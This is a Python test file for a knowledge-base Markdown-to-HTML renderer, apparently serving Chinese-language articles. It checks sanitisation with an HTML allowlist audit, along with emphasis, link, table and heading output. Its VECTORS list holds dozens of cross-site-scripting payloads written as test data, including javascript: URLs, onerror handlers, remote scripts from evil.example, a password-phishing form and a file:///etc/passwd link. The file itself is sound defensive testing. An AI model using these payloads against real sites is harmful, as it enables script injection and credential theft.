import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kms.articles.markup import images, links, plain_text, render, sections

SAFE_TAGS = set(
    "p br hr h2 h3 h4 h5 h6 em strong s code pre blockquote ul ol li a img span div table thead tbody tr th td".split()  # noqa: SIM905 - reads better than a list
)
SAFE_ATTRIBUTES = {
    "href",
    "title",
    "rel",
    "target",
    "data-code",
    "src",
    "alt",
    "loading",
    "start",
    "id",
    "class",
}
SAFE_URL = re.compile(r"(https?://|mailto:|tel:|#|/articles/KB-\d{6,}|/files/)")


class Audit(HTMLParser):
    """Reads HTML as a browser would and keeps whatever is not known to be harmless."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name in ("href", "src") and not SAFE_URL.match(value or ""):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")


def harm(html: str) -> list[str]:
    audit = Audit()
    audit.feed(html)
    audit.close()
    return audit.found


def html(text: str, broken: tuple[str, ...] = ()) -> str:
    return render(text, lambda name: f"/files/{name}" if name.endswith(".png") else None, broken)


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<div style=background:url(javascript:alert(1))>",
    "<p hx-get=/api/v1/users hx-trigger=load>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/login)",
    "[x](/logout)",
    "[x](\\\\evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/'onclick='alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](/logout)",
    '![x"onerror="alert(1)](attachments/a.png)',
    '![x](attachments/a"onerror="alert(1).png)',
    '![x](attachments/a.png "x" onerror=alert(1))',
    "[x](KB-000001#a\"onclick='alert(1)')",
    "# <img src=x onerror=alert(1)>",
    '# "onclick="alert(1)',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)>",
    "**<script>**alert(1)**</script>**",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


@pytest.mark.parametrize("text", VECTORS)
def test_no_vector_gets_through(text: str) -> None:
    assert harm(html(text)) == []


def test_the_audit_itself_finds_harm() -> None:
    vectors = [vector for vector in VECTORS if vector.startswith("<") and "=" in vector]
    assert sum(bool(harm(vector)) for vector in vectors) > 15


fragments = st.sampled_from(
    [
        "<script>",
        "onerror=",
        "](",
        "javascript:",
        '"',
        "'",
        "![",
        "[",
        "attachments/",
        "|",
        "\n",
        "`",
        "*",
        "&#",
        "<br>",
    ]
)


@given(st.lists(fragments | st.text(max_size=5), max_size=20).map("".join))
def test_nothing_harmful_comes_out_whatever_goes_in(text: str) -> None:
    assert harm(html(text)) == []
    plain_text(text)
    sections(text)


def test_raw_html_is_shown_as_text() -> None:
    assert "&lt;b&gt;粗&lt;/b&gt;" in html("<b>粗</b>")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**标准口径：**请您稍等", "<strong>标准口径：</strong>请您稍等"),
        ("请说**“您好”**再继续", "请说<strong>“您好”</strong>再继续"),
        ("资费**（199元/月）**每月", "资费<strong>（199元/月）</strong>每月"),
        ("**注意！**不可承诺", "<strong>注意！</strong>不可承诺"),
        ("按**F8**键", "按<strong>F8</strong>键"),
        ("*先核实：*再办理", "<em>先核实：</em>再办理"),
        ("~~旧价：~~新价", "<s>旧价：</s>新价"),
        ("**甲：**乙**丙：**丁", "<strong>甲：</strong>乙<strong>丙：</strong>丁"),
        ("***重要：***如下", "<em><strong>重要：</strong></em>如下"),
        ("共 ** 个", "共 ** 个"),
        ("snake_case_name", "snake_case_name"),
        ("a **b** c", "a <strong>b</strong> c"),
        (r"2\*3\*4", "2*3*4"),
    ],
)
def test_emphasis_beside_chinese(text: str, expected: str) -> None:
    assert html(text) == f"<p>{expected}</p>\n"


def test_links_to_articles_and_steps() -> None:
    page = html("见[收费](KB-000101)、[步骤](KB-000101#step-3)、[没有](KB-000999)", ("KB-000999",))
    assert '<a href="/articles/KB-000101" class="article-link" data-code="KB-000101">收费</a>' in page
    assert 'href="/articles/KB-000101#step-3"' in page
    assert 'href="/articles/KB-000999" class="article-link broken-link"' in page


def test_external_links_give_nothing_away() -> None:
    page = html("[官网](https://a.example/b?c=1&d=2)")
    assert (
        '<a href="https://a.example/b?c=1&amp;d=2" rel="noopener noreferrer" target="_blank">官网</a>' in page
    )


def test_pictures_come_from_attachments_only() -> None:
    page = html("![光猫](attachments/光猫.png)![缺](<attachments/图 1.jpg>)![外](https://a.example/x.png)")
    assert '<img src="/files/光猫.png" alt="光猫" loading="lazy">' in page
    assert page.count("<img") == 1
    assert '<span class="missing-image">[图片：缺]</span>' in page
    assert '<span class="missing-image">[图片：外]</span>' in page


def test_tables_keep_their_alignment_without_styles() -> None:
    page = html("| 地区 | 价格 | 备注 |\n|---|--:|:-:|\n| 广东<br>深圳 | 199 | 无 |")
    assert '<div class="table-wrap"><table>' in page
    assert '<td class="num">199</td>' in page
    assert '<th class="align-center">备注</th>' in page
    assert "<td>广东<br>" in page
    assert "style" not in page


def test_headings_begin_below_the_title_and_have_unique_ids() -> None:
    page = html("# 总则\n\n## 收费\n\n## 收费\n\n###### 细\n\n# ！！")
    assert re.findall(r'<(h\d) id="([^"]+)"', page) == [
        ("h2", "s-总则"),
        ("h3", "s-收费"),
        ("h3", "s-收费~2"),
        ("h6", "s-细"),
        ("h2", "s-section"),
    ]


def test_plain_text_is_what_a_reader_sees() -> None:
    text = "# 总则\n\n**先**核实[身份](KB-000001)。\n下一行\n\n- 甲\n- 乙\n\n"
    text += "| 地区 | 价 |\n|---|--:|\n| 广东 | 199 |\n\n![图](attachments/a.png)"
    assert plain_text(text) == "总则\n先核实身份。\n下一行\n甲\n乙\n地区 价\n广东 199\n图"


def test_sections_carry_the_ids_of_the_page() -> None:
    text = "前言\n\n# 总则\n\n正文\n\n> # 引用里的不算\n\n## 收费\n\n| 价 |\n|---|\n| 199 |"
    assert [tuple(section) for section in sections(text)] == [
        ("", "", "前言"),
        ("s-总则", "总则", "正文\n引用里的不算"),
        ("s-收费", "收费", "价\n199"),
    ]
    assert sections("") == []
    page = html(text)
    assert all(f'id="{section.anchor}"' in page for section in sections(text) if section.anchor)


def test_references_are_found_wherever_they_stand() -> None:
    text = "[a](KB-000001) [b](KB-000002#step-1)\n\n- [c](KB-000001)\n\n"
    text += "| x |\n|--|\n| [d](KB-000003) |\n\n`[e](KB-000004)`"
    assert links(text) == ("KB-000001", "KB-000002", "KB-000003")
    assert images("![](attachments/a.png) ![](<attachments/b c.png>) ![](https://x.example/d.png)") == (
        "a.png",
        "b c.png",
    )


@pytest.mark.parametrize("unit", ["[", "![", "**a ", "> ", "`", "<br", "- ", "|a", "*_"])
def test_hostile_repetition_stays_fast(unit: str) -> None:
    started = time.process_time()
    html(unit * 5000)
    assert time.process_time() - started < 3
